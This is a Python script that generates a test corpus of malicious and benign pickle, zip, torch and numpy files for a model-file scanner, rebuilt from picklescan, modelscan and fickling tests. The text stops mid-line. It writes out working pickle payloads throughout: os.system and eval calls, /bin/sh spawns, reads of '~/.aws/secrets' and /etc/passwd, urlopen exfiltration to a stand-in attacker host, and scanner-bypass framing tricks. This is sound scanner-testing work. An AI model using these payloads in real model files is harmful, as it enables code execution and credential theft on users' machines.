#!/usr/bin/python3
"""Writes testdata/scan/corpus/: the scan corpus, rebuilt from the public test suites of three
pickle scanners (read with the search tool; none of their code or files is copied) plus sdmodel's
own cases, and manifest.json with each file's expected verdict and where it comes from.

Run: /usr/bin/python3 testdata/scan/make_corpus.py   (deterministic; needs torch and numpy)

Sources:
  picklescan  mmaitre314/picklescan  tests/init_data_files.py, tests/test_scanner.py (the
              malicious*/benign*/GHSA-* files, the zip flag-bit and CRC variants, numpy files)
  modelscan   protectai/modelscan    tests/test_modelscan.py, tests/test_utils.py,
              tests/test_ctypes_blocklist.py, tests/test_pickle_unsafe_globals.py
  fickling    trailofbits/fickling   test/test_bypasses.py, test/test_cve_patterns.py,
              test/test_benign_edge_cases.py
  sdmodel     framing and container cases of sdmodel's issue #13

NOTHING HERE IS EVER UNPICKLED. Files are written with pickle.dumps of objects whose __reduce__
returns (callable, args), with raw opcode bytes, zipfile and numpy.save. Callables of modules that
are not already imported are stand-ins registered in sys.modules under the real name (pickle
writes a global by its __module__ and __qualname__ and checks it with an import), so the bytes
are what pickle writes for the real function, and no module of a gadget is ever imported.

manifest.json: [{"file", "expect", "outside_allow_list", "source"}], expect one of:
  "dangerous"  sdmodel scan must exit 3 and call at least one import dangerous, or refuse the
               pickle as one it does not follow (framing tricks)
  "benign"     exit 0, or exit 3 naming exactly the imports in outside_allow_list (as CPython imports
               them; a benign pickle may still use a gadget such as getattr, listed there too)
  "unreadable" exit 1 (a container sdmodel does not read, or bytes that are no pickle)
  "refused"    exit 3 because the pickle is written in a way sdmodel does not follow exactly as
               CPython reads it (its framing), though nothing in it is dangerous
"""
import collections
import dataclasses
import datetime
import decimal
import enum
import fractions
import io
import json
import marshal
import os
import pathlib
import pickle
import shutil
import struct
import sys
import types
import typing
import uuid
import zipfile
import zlib

import numpy as np
import torch

if os.environ.get("PYTHONHASHSEED") != "0":
    # set and frozenset of str are written in hash order: the same order on every run
    os.environ["PYTHONHASHSEED"] = "0"
    os.execv(sys.executable, [sys.executable] + sys.argv)

sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
sys.dont_write_bytecode = True
from make_fixtures import save_legacy  # noqa: E402

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "corpus")
MANIFEST = []
PAYLOAD = "__import__('os').system('echo pwned')"


def entry(name, data, expect, source, outside=()):
    with open(os.path.join(OUT, name), "wb") as f:
        f.write(data)
    MANIFEST.append({"file": name, "expect": expect, "outside_allow_list": sorted(outside), "source": source})


# ---- stand-ins: pickled by name, never imported ----

def stand_in(module, qualname):
    """The object `module.qualname`: the real one if its module is already imported, else a stand-in
    function (or a class for dotted names) registered under that name in sys.modules."""
    if module in sys.modules:
        obj = sys.modules[module]
        try:
            for part in qualname.split("."):
                obj = getattr(obj, part)
            return obj
        except AttributeError:
            pass
    parts = module.split(".")
    for i in range(1, len(parts) + 1):
        name = ".".join(parts[:i])
        if name not in sys.modules:
            m = types.ModuleType(name)
            sys.modules[name] = m
            if i > 1:
                setattr(sys.modules[".".join(parts[:i - 1])], parts[i - 1], m)
    mod = sys.modules[module]
    owner = mod
    names = qualname.split(".")
    for depth, part in enumerate(names[:-1]):
        cls = getattr(owner, part, None)
        if cls is None:
            cls = type(part, (), {})
            cls.__module__ = module
            cls.__qualname__ = ".".join(names[:depth + 1])
            setattr(owner, part, cls)
        owner = cls

    def fn(*args, **kwargs):
        raise RuntimeError("a stand-in is never called")

    fn.__module__ = module
    fn.__qualname__ = qualname
    fn.__name__ = names[-1]
    setattr(owner, names[-1], fn)
    return fn


def stand_in_class(module, qualname):
    parts = module.split(".")
    for i in range(1, len(parts) + 1):
        name = ".".join(parts[:i])
        if name not in sys.modules:
            sys.modules[name] = types.ModuleType(name)
    cls = type(qualname.split(".")[-1], (), {})
    cls.__module__ = module
    cls.__qualname__ = qualname
    setattr(sys.modules[module], qualname, cls)
    return cls


class Reduce:
    def __init__(self, fn, args):
        self.fn, self.args = fn, args

    def __reduce__(self):
        return (self.fn, self.args)


def call(fn, *args):
    return Reduce(fn, args)


def gadget(module, qualname, *args):
    return call(stand_in(module, qualname), *args)


def dumps(obj, protocol=4):
    return pickle.dumps(obj, protocol=protocol)


# ---- raw opcodes (as fickling's Pickled lists write them) ----

def sbu(s):
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b


def sbb(b):
    return b"C" + bytes([len(b)]) + b


def frame(n):
    return b"\x95" + struct.pack("<Q", n)


PROTO4, PROTO5 = b"\x80\x04", b"\x80\x05"
MEMO, STACK_GLOBAL, TUPLE1, TUPLE2, TUPLE3, REDUCE, STOP = b"\x94", b"\x93", b"\x85", b"\x86", b"\x87", b"R", b"."
BUILD, EMPTY_TUPLE, EMPTY_DICT, EMPTY_LIST, MARK, APPENDS = b"b", b")", b"}", b"]", b"(", b"e"


def binget(i):
    return b"h" + bytes([i])


# ---- zips ----

def zip_bytes(files, compression=zipfile.ZIP_STORED):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression) as z:
        for name, data in files:
            info = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
            info.compress_type = compression
            z.writestr(info, data)
    return buf.getvalue()


def set_flag_bits(data, bits):
    """ORs `bits` into the flag field of every local and central header (the flag-bit trick)."""
    b = bytearray(data)
    i = 0
    while True:
        j = b.find(b"PK\x03\x04", i)
        k = b.find(b"PK\x01\x02", i)
        if j < 0 and k < 0:
            break
        if j >= 0 and (k < 0 or j < k):
            off = j + 6
            i = j + 4
        else:
            off = k + 8
            i = k + 4
        struct.pack_into("<H", b, off, struct.unpack_from("<H", b, off)[0] | bits)
    return bytes(b)


def zipcrypto(name, data, password=b"secret"):
    """A zip with one entry encrypted with the traditional PKWARE scheme (zipfile cannot write one)."""
    keys = [0x12345678, 0x23456789, 0x34567890]

    def crc(c, b):
        return (zlib.crc32(bytes([b]), c ^ 0xFFFFFFFF) ^ 0xFFFFFFFF) & 0xFFFFFFFF

    def update(b):
        keys[0] = crc(keys[0], b)
        keys[1] = (keys[1] + (keys[0] & 0xFF)) & 0xFFFFFFFF
        keys[1] = (keys[1] * 134775813 + 1) & 0xFFFFFFFF
        keys[2] = crc(keys[2], keys[1] >> 24)

    def byte():
        t = (keys[2] | 2) & 0xFFFF
        return ((t * (t ^ 1)) >> 8) & 0xFF

    for p in password:
        update(p)
    checksum = zlib.crc32(data) & 0xFFFFFFFF
    header = bytes(range(11)) + bytes([checksum >> 24])
    out = bytearray()
    for p in header + data:
        out.append(p ^ byte())
        update(p)
    nb = name.encode()
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 1, 0, 0, 0x21, checksum, len(out), len(data), len(nb), 0) + nb
    central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 1, 0, 0, 0x21, checksum, len(out), len(data),
                          len(nb), 0, 0, 0, 0, 0, 0) + nb
    body = local + bytes(out)
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(central), len(body), 0)
    return body + central + end


# ---- torch files ----

def torch_zip(obj, name="archive", pickle_module=pickle):
    buf = io.BytesIO()
    torch.save(obj, buf, pickle_module=pickle_module)
    return buf.getvalue()


def torch_legacy(obj):
    buf = io.BytesIO()
    save_legacy(obj, buf)  # deterministic storage keys (testdata/make_fixtures.py)
    return buf.getvalue()


class InjectingPickler(pickle._Pickler):
    """Writes its injected objects first, then the object, in one pickle (modelscan's PickleInject)."""
    injected = ()

    def dump(self, obj):
        if self.proto >= 2:
            self.write(pickle.PROTO + struct.pack("<B", self.proto))
        if self.proto >= 4:
            self.framer.start_framing()
        for o in self.injected:
            self.save(o)
        self.save(obj)
        self.write(pickle.STOP)
        self.framer.end_framing()


class Injecting:
    """A pickle_module for torch.save that injects `objs` before the data."""

    __name__ = "injecting"

    def __init__(self, objs):
        self.objs = objs

    def Pickler(self, file, protocol):
        p = InjectingPickler(file, protocol)
        p.injected = self.objs
        return p


def small_state_dict():
    g = torch.Generator().manual_seed(0)
    return collections.OrderedDict([("weight", torch.randn(2, 3, generator=g)), ("bias", torch.zeros(2))])


# ---- the corpus ----

def picklescan():
    src = "picklescan tests/init_data_files.py "
    m1 = call(eval, "print('456')")
    m2 = call(os.system, "ls -la")
    for v in (0, 3, 4):
        entry(f"benign0_v{v}.pkl", dumps(["a", "b", "c"], v), "benign", src + "initialize_pickle_files (benign0)")
        entry(f"malicious1_v{v}.pkl", dumps(m1, v), "dangerous", src + "Malicious1: eval")
        entry(f"malicious2_v{v}.pkl", dumps(m2, v), "dangerous", src + "Malicious2: os.system")
    entry("malicious0.pkl", b'c__builtin__\nglobals\n(tRp100\n0c__builtin__\ncompile\n(S\'fl=open("/etc/passwd");picklesmashed=fl.read();'
          + b"'\nS''\nS'exec'\ntRp101\n0c__builtin__\neval\n(g101\ng100\ntRp102\n0c__builtin__\ngetattr\n(c__builtin__\n"
          + b"dict\nS'get'\ntRp103\n0c__builtin__\napply\n(g103\n(g100\nS'picklesmashed'\nltRp104\n0g104\n.",
          "dangerous", src + "malicious0 (Sour Pickles, BlackHat 2011)")
    entry("malicious10.pkl", b"(S'raise RuntimeError(\"Injection running\")'\ni__builtin__\nexec\n.", "dangerous",
          src + "malicious10: INST __builtin__ exec")
    stack_global_no_proto = b"".join([
        b"Vos\n", b"p2\n", b"0", b"Vsystem\n", b"p3\n", b"0", b"Vtorch\n", b"p0\n", b"0", b"VLongStorage\n", b"p1\n", b"0",
        b"g2\n", b"g3\n", STACK_GLOBAL, MARK, b"Vcat flag.txt\n", b"t", REDUCE, STOP])
    entry("malicious11.pkl", stack_global_no_proto, "dangerous", src + "malicious11: STACK_GLOBAL through the memo, no PROTO")
    entry("malicious-invalid-bytes.pkl", stack_global_no_proto + b"\n\n\t\t", "dangerous",
          src + "malicious-invalid-bytes: malicious11 with garbage after STOP")
    entry("keyerror-exploit.pkl", PROTO4 + b"cos\nsystem\n" + b'Vecho "pwned by memo keyerror"\n' + TUPLE1 + REDUCE + b"0"
          + sbu("os") + MEMO + binget(3) + binget(0) + STACK_GLOBAL + b"K\x42" + STOP, "dangerous",
          src + "keyerror-exploit: os.system, then a GET of a memo entry never stored")
    entry("type-confusion-exploit.pkl", PROTO4 + b"cos\nsystem\n" + b'Vecho "type-confusion-exploit"\n' + TUPLE1 + REDUCE + b"0"
          + b"J\x2a\x00\x00\x00" + MEMO + sbu("os") + MEMO + binget(0) + binget(1) + STACK_GLOBAL + b"K\x42" + STOP,
          "dangerous", src + "type-confusion-exploit: STACK_GLOBAL of an int and a str after os.system")
    entry("broken_model.pkl", b"cbuiltins\nexec\n(X>\nf = open('my_file.txt', 'a'); f.write('Malicious'); f.close()tRX.",
          "dangerous", src + "broken_model: builtins.exec, then a truncated pickle")
    entry("malicious23.pkl", b"S'os'\nS'system'\n" + STACK_GLOBAL + b"S'ls'\n" + TUPLE1 + REDUCE + STOP, "dangerous",
          src + "malicious23 (GHSA-9gvj-pp9x-gcfr): STRING arguments to STACK_GLOBAL")
    entry("malicious3.pkl", dumps(gadget("http.client", "HTTPSConnection", "github.com"), 0), "dangerous",
          src + "Malicious3: http.client.HTTPSConnection, protocol 0 (written as httplib)")
    entry("malicious4.pickle", dumps(gadget("requests.api", "get", "https://github.com")), "dangerous", src + "Malicious4: requests.get")
    entry("malicious5.pickle", dumps(gadget("aiohttp.client", "ClientSession")), "dangerous", src + "Malicious5: aiohttp.ClientSession")
    entry("malicious6.pkl", pickle.dumps(["a", "b", "c"]) + pickle.dumps(gadget("requests.api", "get", "https://github.com")),
          "dangerous", src + "malicious6: a benign pickle, then a malicious one")
    entry("malicious7.pkl", dumps(gadget("socket", "create_connection", ("github.com", 80))), "dangerous", src + "Malicious6: socket")
    entry("malicious8.pkl", dumps(call(__import__("subprocess").run, ["ls", "-l"])), "dangerous", src + "Malicious7: subprocess.run")
    entry("malicious9.pkl", dumps(call(sys.exit, 0)), "dangerous", src + "Malicious8: sys.exit")
    entry("malicious13a.pkl", dumps(call(pickle.loads, b"I12345\n."), 0), "dangerous", src + "Malicious13: pickle.loads, protocol 0")
    entry("malicious13b.pkl", dumps(call(pickle.loads, b"I12345\n."), 4), "dangerous", src + "Malicious13: pickle.loads, protocol 4")
    entry("malicious14.pkl", dumps(gadget("runpy", "_run_code", "print('456')")), "dangerous", src + "Malicious14: runpy._run_code")
    bdb_cls = stand_in_class("bdb", "Bdb")
    run = stand_in("bdb", "Bdb.run")
    for name, v in (("malicious15a.pkl", 2), ("malicious15b.pkl", 4)):
        entry(name, dumps(call(run, bdb_cls(), 'import os\nos.system("whoami")'), v), "dangerous",
              src + f"Malicious15: bdb.Bdb.run, protocol {v}")
    entry("malicious16.pkl", dumps(gadget("pip", "main", ["install", "some_malicious_package"]), 0), "dangerous",
          src + "Malicious16: pip.main, protocol 0")
    entry("malicious17.pkl", dumps(gadget("torch._inductor.codecache", "compile_file", "", "", ["sh", "-c", "$(echo pwned)"])),
          "dangerous", src + "Malicious17: torch._inductor.codecache.compile_file")
    entry("malicious18.pkl", dumps(gadget("pydoc", "pipepager", "", 'echo "pwned"')), "dangerous", src + "Malicious18: pydoc.pipepager")
    import functools
    entry("malicious19.pkl", dumps(Reduce(functools.partial(torch.load, "some_other_model.bin", pickle_file="config.json",
                                                            weights_only=False), ())),
          "dangerous", src + "Malicious19: functools.partial(torch.load, ...)")
    entry("malicious20.pkl", dumps(gadget("venv", "create", "venv", False, False, True, False, "$(echo pwned)")), "dangerous",
          src + "Malicious20: venv.create")
    entry("malicious21.pkl", dumps(gadget("timeit", "timeit", "", PAYLOAD)), "dangerous", src + "Malicious21: timeit.timeit")
    entry("malicious22.pkl", dumps(gadget("numpy.testing._private.utils", "runstring", PAYLOAD, {})), "dangerous",
          src + "Malicious22: numpy.testing._private.utils.runstring")
    ghsa = [
        ("GHSA-4r9r-ch6f-vxmx", "torch.utils.bottleneck.__main__", "run_cprofile", (PAYLOAD, {})),
        ("GHSA-86cj-95qr-2p4f", "torch._dynamo.guards", "GuardBuilder.get", ({}, PAYLOAD)),
        ("GHSA-f4x7-rfwp-v3xw", "torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", ({}, PAYLOAD, [])),
        ("GHSA-f745-w6jp-hpxx", "torch.utils.collect_env", "run", (PAYLOAD,)),
        ("GHSA-h3qp-7fh3-f8h4", "torch.utils.data.datapipes.utils.decoder", "basichandlers", ("pickle", b"")),
        ("GHSA-vr7h-p6mm-wpmh", "torch.jit.unsupported_tensor_ops", "execWrapper", (PAYLOAD, {}, {})),
        ("GHSA-vv6j-3g6g-2pvj", "torch.utils._config_module", "ConfigModule.load_config", ({}, b"")),
        ("GHSA-5qwp-399c-mjwf", "trace", "Trace.run", ({}, PAYLOAD)),
        ("GHSA-g344-hcph-8vgg", "trace", "Trace.runctx", ({}, PAYLOAD, {}, {})),
        ("GHSA-x696-vm39-cp64", "profile", "Profile.run", ({}, PAYLOAD)),
        ("GHSA-6vqj-c2q5-j97w", "profile", "Profile.runctx", ({}, PAYLOAD, {}, {})),
        ("GHSA-f54q-57x4-jg88", "lib2to3.pgen2.grammar", "Grammar.loads", ({}, b"")),
        ("GHSA-3vg9-h568-4w9m", "idlelib.debugobj", "ObjectTreeItem.SetText", ({}, PAYLOAD)),
        ("GHSA-6w4w-5w54-rjvr", "idlelib.autocomplete", "AutoComplete.get_entity", ({}, PAYLOAD)),
        ("GHSA-7cq8-mj8x-j263", "idlelib.autocomplete", "AutoComplete.fetch_completions", ({}, PAYLOAD, 1)),
        ("GHSA-cj3c-v495-4xqh", "code", "InteractiveInterpreter.runcode", ({}, PAYLOAD)),
        ("GHSA-8r4j-24qv-fmq9", "idlelib.calltip", "Calltip.fetch_tip", ({}, PAYLOAD)),
        ("GHSA-9xph-j2h6-g47v", "idlelib.calltip", "get_entity", (PAYLOAD,)),
        ("GHSA-4whj-rm5r-c2v8", "torch.utils.bottleneck.__main__", "run_autograd_prof", (PAYLOAD, {})),
        ("GHSA-xp4f-hrf8-rxw7", "ensurepip", "_run_pip", (PAYLOAD,)),
        ("GHSA-p9w7-82w4-7q8m", "lib2to3.pgen2.pgen", "ParserGenerator.make_label", (None, {}, '""+' + PAYLOAD)),
        ("GHSA-m869-42cg-3xwr", "idlelib.run", "Executive.runcode", ({}, PAYLOAD)),
        ("GHSA-j343-8v2j-ff7w", "idlelib.pyshell", "ModifiedInterpreter.runcommand", ({}, PAYLOAD)),
        ("GHSA-3gf5-cxq9-w223", "idlelib.pyshell", "ModifiedInterpreter.runcode", ({}, PAYLOAD)),
        ("GHSA-fqq6-7vqf-w3fg", "doctest", "debug_script", (PAYLOAD, True)),
        ("GHSA-9w88-8rmg-7g2p", "cProfile", "runctx", (PAYLOAD, None, None)),
        ("GHSA-49gj-c84q-6qm9", "cProfile", "run", (PAYLOAD,)),
        ("GHSA-q77w-mwjj-7mqx", "asyncio.unix_events", "_UnixSubprocessTransport._start", ({}, "whoami", True, None, None, None, 0)),
        ("GHSA-m273-6v24-x4m4", "distutils.file_util", "write_file", ("pwned_config.env", ["malicious content"])),
        ("GHSA-4675-36f9-wf6r", "ctypes", "CDLL", (None,)),
        ("GHSA-vqmv-47xg-9wpr", "pty", "spawn", (["/bin/sh", "-c", "id; exit"],)),
        ("GHSA-r8g5-cgf2-4m4m", "numpy.f2py.crackfortran", "getlincoef", (PAYLOAD, [])),
        ("GHSA-g38g-8gr9-h9xp-uuid", "uuid", "_get_command_stdout", ("sh", "-c", "id")),
        ("GHSA-g38g-8gr9-h9xp-osx-support", "_osx_support", "_read_output", ("id",)),
        ("GHSA-g38g-8gr9-h9xp-aix-support", "_aix_support", "_read_cmd_output", ("id",)),
        ("GHSA-g38g-8gr9-h9xp-imaplib", "imaplib", "IMAP4_stream", ("id",)),
        ("GHSA-g38g-8gr9-h9xp-pyrepl-pager", "_pyrepl.pager", "pipe_pager", ("", "id")),
        ("GHSA-g38g-8gr9-h9xp-test", "test.support.script_helper", "assert_python_ok", ("-c", PAYLOAD)),
        ("GHSA-vvpj-8cmc-gx39", "pkgutil", "resolve_name", ("os:system",)),
        ("io_FileIO", "_io", "FileIO", ("/etc/hosts", "r")),
        ("urllib_request_urlopen", "urllib.request", "urlopen", ("https://example.invalid",)),
        ("logging_FileHandler", "logging", "FileHandler", ("/tmp/evil.log",)),
        ("importlib_bypass", "importlib", "import_module", ("os",)),
    ]
    for name, module, qualname, args in ghsa:
        entry(name + ".pkl", dumps(gadget(module, qualname, *args)), "dangerous",
              "picklescan tests/init_data_files.py initialize_pickle_file_from_reduce (" + name + "): " + module + "." + qualname)
    # types.CodeType is builtins.code to pickle: written as raw opcodes under the name the test uses.
    entry("types_CodeType.pkl", PROTO4 + sbu("types") + MEMO + sbu("CodeType") + MEMO + STACK_GLOBAL + MEMO + EMPTY_TUPLE
          + REDUCE + STOP, "dangerous", "picklescan tests (types_CodeType.pkl): types.CodeType")
    # GHSA-jhph-76pp-mggw: run_and_read_all(run, payload): two gadgets.
    entry("GHSA-jhph-76pp-mggw.pkl", dumps(gadget("torch.utils.collect_env", "run_and_read_all",
                                                   stand_in("torch.utils.collect_env", "run"), PAYLOAD)),
          "dangerous", src + "reduce_GHSA_jhph_76pp_mggw: collect_env.run_and_read_all(collect_env.run, ...)")
    # GHSA-84r2-jw7c-4r5q: operator.methodcaller('system', ...)(pydoc.locate('os')).
    import operator
    entry("GHSA-84r2-jw7c-4r5q.pkl", dumps(Reduce(operator.methodcaller("system", "echo pwned"),
                                                   (gadget("pydoc", "locate", "os"),))),
          "dangerous", src + "reduce_GHSA_84r2_jw7c_4r5q: operator.methodcaller and pydoc.locate")
    # Zips (initialize_zip_file, initialize_corrupt_zip_file_*; test_scan_file_path's flag-bit variants).
    m1_4 = dumps(m1, 4)
    entry("malicious1.zip", zip_bytes([("data.pkl", m1_4)]), "dangerous", src + "initialize_zip_file (malicious1.zip)")
    entry("malicious1_wrong_ext.zip", zip_bytes([("data.txt", m1_4)]), "dangerous",
          src + "initialize_zip_file (malicious1_wrong_ext.zip: the pickle named data.txt)")
    entry("malicious1_central_directory.zip", zip_bytes([("data.pkl", m1_4)]).replace(b"data.pkl", b"datap.kl", 1), "dangerous",
          src + "initialize_corrupt_zip_file_central_directory (local header name differs)")
    entry("malicious1_crc.zip", zip_bytes([("data.pkl", m1_4)]).replace(b"print('456')", b"print('123')", 1), "dangerous",
          src + "initialize_corrupt_zip_file_crc (CRC mismatch)")
    for bit in (0x1, 0x20, 0x40):
        entry(f"malicious1_0x{bit:x}.zip", set_flag_bits(zip_bytes([("data.pkl", m1_4)]), bit), "dangerous",
              f"picklescan tests/test_scanner.py test_scan_file_path (malicious1_0x{bit:x}.zip: flag bit set, torch ignores it)")
    entry("malicious1_deflated.zip", zip_bytes([("archive/data.pkl", m1_4)], zipfile.ZIP_DEFLATED), "dangerous",
          "sdmodel: malicious1 in a deflated zip entry")
    entry("malicious1.7z", b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 24 + m1_4, "unreadable",
          src + "initialize_7z_file (a 7z signature before the pickle; py7zr is not used: sdmodel does not read 7z)")
    entry("benign_password_protected.zip", zipcrypto("data.pkl", dumps({"a": 0, "b": 1})), "unreadable",
          "picklescan tests/data/benign_password_protected.zip (a ZipCrypto-encrypted pickle)")
    entry("bad_pytorch.pt", b"\x89PNG\r\n\x1a\n", "unreadable", src + "bad_pytorch.pt (a PNG named .pt)")
    entry("not_a_pickle.bin", b"cmod\n\xf8\n", "unreadable", src + "initialize_not_a_pickle_file (GLOBAL with invalid UTF-8)")
    # PyTorch files (tests/data/pytorch_model.bin, new_pytorch_model.bin).
    entry("pytorch_model.bin", torch_legacy(small_state_dict()), "benign", "picklescan tests/data/pytorch_model.bin (legacy torch.save)")
    entry("new_pytorch_model.bin", torch_zip(small_state_dict()), "benign", "picklescan tests/data/new_pytorch_model.bin (zip torch.save)")
    # pytorch_magic_bypass.pt: the magic number computed by eval, then os.system in the data pickle.
    legacy = torch_legacy(collections.OrderedDict([("w", torch.zeros(1)), ("x", m2)]))
    magic = pickle.dumps(0x1950a86a20f9469cfc6c, protocol=2)
    assert legacy.startswith(magic)
    entry("pytorch_magic_bypass.pt", pickle.dumps(call(eval, hex(0x1950a86a20f9469cfc6c)), protocol=2) + legacy[len(magic):],
          "dangerous", "picklescan tests/test_scanner.py (pytorch_magic_bypass.pt: __builtin__.eval makes the magic number, posix.system in the data)")
    # Numpy (initialize_numpy_files).
    x = np.empty((2, 2), dtype=object)
    x[:] = [(1, 2), (3, 4)]
    entry("object_array.npy", npy(x), "benign", "picklescan initialize_numpy_files (object_array.npy)")
    entry("int_array.npy", npy(np.array([[1, 2], [3, 4]], dtype=np.int64)), "benign", "picklescan initialize_numpy_files (int_array.npy)")
    for compressed in (False, True):
        suffix = "_compressed" if compressed else ""
        entry(f"object_arrays{suffix}.npz", npz(compressed, a=np.array([0, 1, 2], dtype=object), b=np.array([3, 4, 5], dtype=object)),
              "benign", f"picklescan initialize_numpy_files (object_arrays{suffix}.npz)")
        entry(f"int_arrays{suffix}.npz", npz(compressed, a=np.array([0, 1, 2]), b=np.array([3, 4, 5])),
              "benign", f"picklescan initialize_numpy_files (int_arrays{suffix}.npz)")
    entry("dns_exfiltration.npy", npy(np.array([gadget("ssl", "get_server_certificate", ("x.dns-logger.invalid", 443))],
                                                dtype=object)),
          "dangerous", "picklescan initialize_numpy_files (dns_exfiltration.npy: ssl.get_server_certificate in an object array)")


def npy(a):
    buf = io.BytesIO()
    np.save(buf, a, allow_pickle=True)
    return buf.getvalue()


def npz(compressed, **arrays):
    buf = io.BytesIO()
    (np.savez_compressed if compressed else np.savez)(buf, **arrays)
    # zip timestamps come from the clock: rewrite the archive with fixed ones, same compression
    src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    return zip_bytes([(i.filename, src.read(i.filename)) for i in src.infolist()],
                     zipfile.ZIP_DEFLATED if compressed else zipfile.ZIP_STORED)


def modelscan():
    src = "modelscan tests/test_modelscan.py "
    p12 = PROTO5 + b"cpickle\nloads\n"
    inner = PROTO5 + b"cos\nsystem\n" + b"Vecho pwned!!!\n" + TUPLE1 + REDUCE + STOP
    p12 += b"B" + struct.pack("<I", len(inner)) + inner + TUPLE1 + REDUCE + b"0" + b"N" + STOP
    entry("modelscan_malicious12.pkl", p12, "dangerous", src + "malicious12_gen: pickle.loads of a nested pickle")
    entry("modelscan_malicious13.pkl", PROTO5 + b"cbuiltins\neval.__call__\n" + b'V__import__("os").system("echo pwned!!!")\n'
          + TUPLE1 + REDUCE + STOP, "dangerous", src + "malicious13_gen: builtins eval.__call__")
    safe = np.load(io.BytesIO(npy(np.array([[1, 2, 3], [4, 5, 6]]))))  # a plain int array: np.load reads no pickle
    buf = io.BytesIO()
    p = InjectingPickler(buf, 4)
    p.injected = [call(exec, 'print("Malicious code!")')]
    p.dump(safe)
    entry("modelscan_unsafe_numpy.npy", buf.getvalue(), "dangerous",
          "modelscan tests/test_utils.py generate_unsafe_pickle_file (exec injected before an array; a pickle named .npy)")
    entry("modelscan_unsafe_zip_pytorch.pt", torch_zip(small_state_dict(), pickle_module=Injecting([call(os.system, "cat ~/.aws/secrets")])),
          "dangerous", "modelscan tests/test_utils.py PyTorchTestModel.generate_unsafe_pytorch_file (os.system injected by torch.save)")
    entry("modelscan_safe_zip_pytorch.pt", torch_zip(torch.nn.Module().state_dict()), "benign", src + "pytorch_file_path (safe_zip_pytorch.pt)")
    entry("modelscan_safe_old_format_pytorch.pt", torch_legacy(torch.nn.Module().state_dict()), "benign",
          src + "pytorch_file_path (safe_old_format_pytorch.pt)")
    entry("modelscan_ctypes_cdll.pkl", dumps(gadget("ctypes", "CDLL", "msvcrt"), 3), "dangerous",
          "modelscan tests/test_ctypes_blocklist.py MaliciousCtypesCDLL")
    entry("modelscan_signal.pkl", dumps(gadget("signal", "raise_signal", 15), 0), "dangerous",
          "modelscan tests/test_ctypes_blocklist.py MaliciousSignal (protocol 0)")
    entry("modelscan_urllib.pkl", dumps(gadget("urllib.request", "urlopen", "http://attacker.invalid/exfil"), 0), "dangerous",
          "modelscan tests/test_ctypes_blocklist.py MaliciousUrllib (protocol 0: written as urllib2)")
    entry("modelscan_mailcap.pkl", dumps(gadget("mailcap", "findmatch", {"text/plain": [{"view": "cat %s"}]}, "text/plain"), 3),
          "dangerous", "modelscan tests/test_pickle_unsafe_globals.py MaliciousMailcapFindmatch")


def fickling():
    src = "fickling test/test_bypasses.py "
    # Frame lengths as the tests give them (Frame(26) ends inside the last string: CPython reads on).
    entry("fickling_pty_ghsa.pkl", PROTO4 + frame(26) + sbu("pty") + MEMO + sbu("spawn") + MEMO + STACK_GLOBAL + MEMO
          + sbu("id") + MEMO + TUPLE1 + MEMO + REDUCE + MEMO + sbu("gottem") + MEMO + BUILD + STOP, "dangerous",
          src + "test_missing_pty_unsafe_imports_ghsa (a frame that ends inside an argument)")
    entry("fickling_pty_pr.pkl", MARK + b"cpty\nspawn\n" + b"S'id'\n" + b"o" + STOP, "dangerous", src + "test_missing_pty_unsafe_imports_pr (OBJ)")
    code = marshal.dumps(compile('import os\nos.system("id")', "<string>", "exec"))
    entry("fickling_marshal_types.pkl", PROTO4 + frame(0) + sbu("marshal") + sbu("loads") + STACK_GLOBAL + MEMO + binget(0)
          + b"B" + struct.pack("<I", len(code)) + code + TUPLE1 + REDUCE + MEMO + sbu("types") + sbu("FunctionType") + STACK_GLOBAL
          + MEMO + binget(2) + binget(1) + EMPTY_DICT + TUPLE2 + REDUCE + MEMO + binget(3) + EMPTY_TUPLE + REDUCE + MEMO
          + sbu("gottem") + BUILD + STOP, "dangerous", src + "test_missing_marshal_and_types (Frame(0))")
    entry("fickling_runpy.pkl", PROTO5 + frame(46) + sbu("runpy") + MEMO + sbu("run_path") + MEMO + STACK_GLOBAL + MEMO
          + sbu("/tmp/malicious.py") + MEMO + TUPLE1 + MEMO + REDUCE + MEMO + STOP, "dangerous", src + "test_missing_runpy")
    entry("fickling_cprofile.pkl", PROTO5 + frame(58) + sbu("cProfile") + MEMO + sbu("run") + MEMO + STACK_GLOBAL + MEMO
          + sbu("print('CPROFILE_RCE_CONFIRMED')") + MEMO + TUPLE1 + MEMO + REDUCE + MEMO + STOP, "dangerous", src + "test_missing_cprofile")

    def getattr_chain(module, name, first_args, attr, last_arg):
        return (PROTO5 + sbu("builtins") + MEMO + sbu("getattr") + MEMO + STACK_GLOBAL + MEMO + sbu(module) + MEMO + sbu(name)
                + MEMO + STACK_GLOBAL + MEMO + first_args + MEMO + REDUCE + MEMO + sbu(attr) + MEMO + TUPLE2 + MEMO + REDUCE
                + MEMO + last_arg + MEMO + TUPLE1 + MEMO + REDUCE + MEMO + STOP)

    entry("fickling_ctypes.pkl", getattr_chain("ctypes", "CDLL", sbu("libc.dylib") + MEMO + TUPLE1, "system", sbb(b"id")),
          "dangerous", src + "test_missing_ctypes")
    entry("fickling_importlib.pkl", getattr_chain("importlib", "import_module", sbu("os") + MEMO + TUPLE1, "system", sbu("id")),
          "dangerous", src + "test_missing_importlib")
    entry("fickling_code.pkl", getattr_chain("code", "InteractiveInterpreter", EMPTY_TUPLE, "runsource",
                                             sbu('import os; os.system("id")')), "dangerous", src + "test_missing_code")
    entry("fickling_pydoc.pkl", b"cpydoc\nlocate\n" + b"S'ctypes.windll.kernel32.WinExec'\n" + TUPLE1 + REDUCE + b"p0\n" + b"0"
          + b"g0\n" + sbb(b"calc.exe") + b"K\x01" + TUPLE2 + REDUCE + b"p1\n" + b"0" + b"cbuiltins\nException\n" + EMPTY_TUPLE
